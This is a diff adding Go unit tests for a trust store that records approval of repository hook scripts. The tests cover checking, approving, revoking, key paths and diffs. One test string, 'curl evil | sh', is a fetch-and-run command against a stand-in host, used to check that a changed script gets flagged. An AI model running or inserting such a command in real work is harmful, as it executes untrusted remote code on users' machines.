@@ -0,0 +1,77 @@
+package trust
+
+import (
+	"path/filepath"
+	"testing"
+)
+
+func TestStore_CheckApproveRevoke(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "trust.json")
+	repo := "/src/app"
+	script := "/src/app/.wtwrc"
+
+	s, err := Load(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st, _ := s.Check(repo, script, []byte("echo hi\n")); st != New {
+		t.Fatalf("status = %v, want New", st)
+	}
+
+	s.Approve(repo, script, []byte("echo hi\n"))
+	if err := s.Save(); err != nil {
+		t.Fatal(err)
+	}
+
+	s, err = Load(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st, _ := s.Check(repo, script, []byte("echo hi\n")); st != Trusted {
+		t.Errorf("status = %v, want Trusted", st)
+	}
+	st, prev := s.Check(repo, script, []byte("curl evil | sh\n"))
+	if st != Changed || prev != "echo hi\n" {
+		t.Errorf("status = %v, prev = %q; want Changed with previous content", st, prev)
+	}
+	if st, _ := s.Check("/src/other", "/src/other/.wtwrc", []byte("echo hi\n")); st != New {
+		t.Errorf("approval leaked to another repo: %v", st)
+	}
+
+	if got := s.List(); len(got) != 1 || got[0].Script != ".wtwrc" {
+		t.Errorf("List = %+v", got)
+	}
+	if !s.Revoke(repo, script) {
+		t.Error("Revoke returned false")
+	}
+	if s.Revoke(repo, script) {
+		t.Error("second Revoke returned true")
+	}
+}
+
+func TestKey(t *testing.T) {
+	cases := []struct{ repo, script, want string }{
+		{"/src/app", "/src/app/.wtwrc", ".wtwrc"},
+		{"/src/app", "/src/app/scripts/setup.sh", "scripts/setup.sh"},
+		{"/src/app", "/home/me/setup.sh", "/home/me/setup.sh"},
+		{"/src/app", "/src/app-other/.wtwrc", "/src/app-other/.wtwrc"},
+	}
+	for _, tc := range cases {
+		if got := Key(tc.repo, tc.script); got != tc.want {
+			t.Errorf("Key(%q, %q) = %q, want %q", tc.repo, tc.script, got, tc.want)
+		}
+	}
+}
+
+func TestDiff(t *testing.T) {
+	old := "a\nb\nc\nd\ne\nf\ng\nh\ni\nj\n"
+	new := "a\nb\nc\nd\ne\nF\ng\nh\ni\nj\n"
+	want := "  c\n  d\n  e\n- f\n+ F\n  g\n  h\n  i\n"
+	if got := Diff(old, new); got != want {
+		t.Errorf("Diff =\n%s\nwant\n%s", got, want)
+	}
+
+	if got := Diff("", "echo hi\n"); got != "+ echo hi\n" {
+		t.Errorf("Diff from empty = %q", got)
+	}
+}